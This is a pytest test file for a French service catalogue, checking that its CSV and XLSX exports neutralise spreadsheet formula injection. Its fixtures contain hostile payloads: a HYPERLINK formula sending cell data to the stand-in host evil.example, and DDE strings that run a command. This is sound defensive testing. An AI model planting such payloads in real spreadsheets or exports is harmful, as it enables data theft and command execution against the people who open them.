"""Every CSV and XLSX export of the service neutralises the cells that a spreadsheet
would read as a formula (OWASP: a text beginning with =, +, -, @, tab or carriage
return is prefixed with a single quote)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from catalogue.export_files import write_export
from catalogue.spreadsheet import neutralise
from tests.auth_helpers import make_moderator, make_user
from tests.web.cto.conftest import log_in, make_territory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


def _no_live_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_rule():
    assert neutralise(FORMULA) == "'" + FORMULA
    for value in OTHERS:
        assert neutralise(value) == "'" + value
    assert neutralise("Auto-école =") == "Auto-école ="
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None


def _malicious_offer(factories):
    structure = factories.StructureFactory(nom="@SUM(1+1)*cmd|' /C calc'!A0")
    factories.ServiceFactory(nom=FORMULA, structure=structure, telephone="+33 3 23 00 00 00",
                             mobilisation_precisions="-2+3")


def test_search_csv_export(client, factories):
    _malicious_offer(factories)
    r = client.get("/recherche/export.csv?code_commune=02408")
    assert r.status_code == 200
    cells = _cells(r.get_data().decode("utf-8"))
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+33 3 23 00 00 00" in cells
    _no_live_formula(cells)


def test_search_xlsx_export(client, factories):
    _malicious_offer(factories)
    r = client.get("/recherche/export.xlsx?code_commune=02408")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.get_data()))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "a live formula in the workbook"
    values = [c.value for c in cells]
    assert "'" + FORMULA in values
    _no_live_formula(values)


def test_search_text_in_the_header_is_neutralised(client, factories):
    _malicious_offer(factories)
    r = client.get("/recherche/export.csv", query_string={"q": "=1+1"})
    assert r.status_code == 200
    cells = _cells(r.get_data().decode("utf-8"))
    _no_live_formula(cells)


def test_pilotage_exports(db, client, factories):
    user = make_user(db, email="moderation@example.org")
    make_moderator(db, user, departement="02")
    log_in(client, user)
    make_territory(db, "piege", FORMULA, ["02408"])
    factories.ServiceFactory(source="+cmd")
    db.flush()
    for url in ("/pilotage/export/territoires.csv", "/pilotage/export/sources.csv",
                "/pilotage/couverture/synthese.csv?rayon=30"):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        cells = _cells(r.get_data().decode("utf-8"))
        assert any(c.startswith("'") for c in cells), url
        _no_live_formula(cells)
    # No text of a visitor or a partner at the start of a cell in these; checked all the same.
    for url in ("/pilotage/export/thematiques.csv", "/pilotage/export/besoins.csv", "/pilotage/demande.csv",
                "/pilotage/couverture.csv?territoire=piege&thematique=mobilite"):
        r = client.get(url)
        assert r.status_code == 200, url
        _no_live_formula(_cells(r.get_data().decode("utf-8")))


def test_data_inclusion_csv_of_the_command_line(db, factories, tmp_path):
    factories.ServiceFactory(nom=FORMULA, description="@SUM(1+1) une description assez longue")
    db.flush()
    write_export(db, tmp_path, "cd02", include_imported=True)
    for kind in ("structures", "services"):
        text = (tmp_path / f"{kind}.csv").read_text(encoding="utf-8")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        _no_live_formula(cells)
    services = (tmp_path / "services.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in services
